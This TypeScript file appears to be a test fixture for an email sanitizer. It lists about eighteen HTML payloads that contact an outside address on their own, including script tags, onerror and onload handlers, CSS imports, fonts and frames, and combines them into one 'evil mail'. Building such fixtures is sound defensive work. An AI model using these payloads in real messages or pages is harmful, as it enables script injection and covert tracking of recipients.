/**
 * Each tries to reach an address elsewhere, by itself: a mail with one of these would at least tell that it was
 * opened.
 */
export const attacks: Record<string, (url: string) => string> = {
	'a script': (url) => `<script>new Image().src = '${url}'</script>`,
	'a script from elsewhere': (url) => `<script src="${url}"></script>`,
	'an event handler': (url) => `<img src="data:," onerror="new Image().src = '${url}'">`,
	'a script in a drawing': (url) => `<svg onload="new Image().src = '${url}'"></svg>`,
	'a focus handler': (url) => `<input autofocus onfocus="new Image().src = '${url}'">`,
	'an image': (url) => `<img src="${url}">`,
	'an image for sharp screens': (url) => `<img srcset="${url} 1x">`,
	'an image in a drawing': (url) => `<svg><image href="${url}" /></svg>`,
	'a background': (url) => `<p style="background: url(${url})">text</p>`,
	'an imported style': (url) => `<style>@import url(${url});</style>`,
	'a style sheet': (url) => `<link rel="stylesheet" href="${url}">`,
	'a font': (url) =>
		`<style>@font-face { font-family: evil; src: url(${url}) }</style><b style="font-family: evil">text</b>`,
	'a frame': (url) => `<iframe src="${url}"></iframe>`,
	'an object': (url) => `<object data="${url}"></object>`,
	'an embedded document': (url) => `<EMBED SRC="${url}">`,
	'a film': (url) => `<video poster="${url}"></video>`,
	'a sound': (url) => `<audio autoplay src="${url}"></audio>`,
	'a preloaded image': (url) => `<link rel="preload" as="image" href="${url}">`,
};

/**
 * All of them, in one document.
 * @param origin that they turn to, each for a path of its own
 */
export const evilMail = (origin: string) =>
	Object.values(attacks)
		.map((attack, index) => attack(`${origin}/${index}`))
		.join('\n');
